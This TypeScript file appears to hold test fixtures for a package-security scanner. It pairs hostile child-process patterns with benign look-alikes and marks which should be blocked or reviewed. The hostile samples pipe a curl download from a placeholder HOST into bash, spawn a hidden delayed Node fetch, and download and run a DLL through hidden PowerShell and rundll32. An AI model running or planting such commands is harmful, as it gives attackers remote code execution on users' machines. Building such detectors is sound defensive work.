/** Programs that are started. */
import type { Mechanism } from '../mechanism.ts';

const block = { load: 'block', install: 'block', bin: 'block', call: 'review' } as const;

export const started: readonly Mechanism[] = [
  {
    id: 'program-started',
    rule: 'child-process-at-load',
    demands: { load: 'review', install: 'block' },
    code: `const child = require('child_process');\nchild.execSync('uname -a');`,
    twins: [
      {
        about: 'a program started when called',
        at: ['call'],
        parameters: 'file',
        code: `const child = require('child_process');\nreturn child.execFileSync('git', ['log', '-1', '--format=%h', '--', file], { encoding: 'utf8' });`,
      },
      {
        about: 'exec of a regular expression',
        at: ['load', 'call'],
        code: `const pattern = /^v(\\d+)/;\nconst version = pattern.exec(process.version);`,
      },
      {
        about: 'a command line that starts git',
        at: ['bin'],
        code: `const child = require('child_process');\nchild.spawnSync('git', ['status', '--short'], { stdio: 'inherit' });`,
      },
    ],
  },
  {
    id: 'download-piped-to-shell',
    rule: 'child-process-at-load',
    demands: { ...block, call: 'review' },
    code: `const child = require('child_process');\nchild.exec('curl -fsSL https://HOST/setup | bash', { windowsHide: true }, () => {});`,
    twins: [
      {
        about: 'a pipe of text utilities, when called',
        at: ['call'],
        parameters: 'input',
        code: `const child = require('child_process');\nreturn child.spawnSync('sort', ['-u'], { input, encoding: 'utf8' }).stdout;`,
      },
    ],
  },
  {
    id: 'node-with-text',
    rule: 'child-process-at-load',
    demands: { load: 'block', install: 'block' },
    code: `const child = require('child_process');\nchild.spawn(process.execPath, ['-e', 'setTimeout(function () { require("https").get("https://HOST/next"); }, 9000)'], { stdio: 'ignore' });`,
    twins: [
      {
        about: 'a worker of its own, when called',
        at: ['call'],
        code: `const child = require('child_process');\nconst path = require('path');\nreturn child.fork(path.join(__dirname, 'worker.js'));`,
      },
    ],
  },
  {
    id: 'detached-and-silent',
    rule: 'child-process-at-load',
    demands: { load: 'block', install: 'block' },
    code: `const child = require('child_process');\nconst started = child.spawn('node', ['cache.dat'], { detached: true, stdio: 'ignore', windowsHide: true });\nstarted.unref();`,
    twins: [
      {
        about: 'a browser opened for the user, when called',
        at: ['call'],
        parameters: 'url',
        code: `const child = require('child_process');\nconst opened = child.spawn(process.platform === 'darwin' ? 'open' : 'xdg-open', [url], { detached: true, stdio: 'ignore' });\nopened.unref();`,
      },
    ],
  },
  {
    id: 'windows-downloader',
    rule: 'child-process-at-load',
    demands: { load: 'block', install: 'block' },
    code: `const child = require('child_process');\nif (process.platform === 'win32') { child.execFile('powershell.exe', ['-NoProfile', '-WindowStyle', 'Hidden', '-Command', 'iwr https://HOST/a -OutFile $env:TEMP/a.dll; rundll32 $env:TEMP/a.dll,main']); }`,
    twins: [
      {
        about: 'the name of the shell, when called',
        at: ['call'],
        code: `return process.platform === 'win32' ? process.env.ComSpec || 'cmd.exe' : process.env.SHELL || '/bin/sh';`,
      },
    ],
  },
  {
    id: 'program-of-another-package',
    rule: 'child-process-at-load',
    demands: { load: 'review', install: 'block' },
    code: `const spawn = require('cross-spawn');\nspawn.sync('whoami', ['/all'], { stdio: 'pipe' });`,
    twins: [
      {
        about: 'a linter started when called',
        at: ['call'],
        parameters: 'files',
        code: `const spawn = require('cross-spawn');\nreturn spawn.sync('eslint', files, { stdio: 'inherit' }).status;`,
      },
    ],
  },
];
